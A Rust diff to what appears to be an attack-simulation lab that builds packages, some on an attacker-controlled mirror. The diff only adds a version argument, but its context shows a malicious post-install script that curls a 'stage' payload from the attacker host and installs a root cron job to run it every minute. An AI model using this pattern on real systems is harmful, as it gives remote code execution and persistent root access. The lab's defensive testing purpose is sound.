@@ -19,7 +19,7 @@ pub fn run(lab: &mut Lab) -> Result<()> {
         let after = format!(
             "mkdir -p /var/lib/{name} /etc/{name}\ndate > /var/lib/{name}/installed\nchmod 750 /var/lib/{name}\n"
         );
-        packages::build(&mirror, name, &after)?;
+        packages::build(&mirror, name, packages::VERSION, &after)?;
     }
     packages::mirror(&attacker)?;
     for name in &good[..2] {
@@ -50,7 +50,7 @@ pub fn run(lab: &mut Lab) -> Result<()> {
         "{}\nmkdir -p /var/lib/{name}\ncurl -s -o {part} http://{to}:8080/stage\nchmod 755 {part}\necho '* * * * * root {part}' > {job}\n",
         step.mark(&host)?
     );
-    packages::build(&mirror, &name, &after)?;
+    packages::build(&mirror, &name, packages::VERSION, &after)?;
     packages::install(&host, &mirror, &name)?;
     drop(step);
 
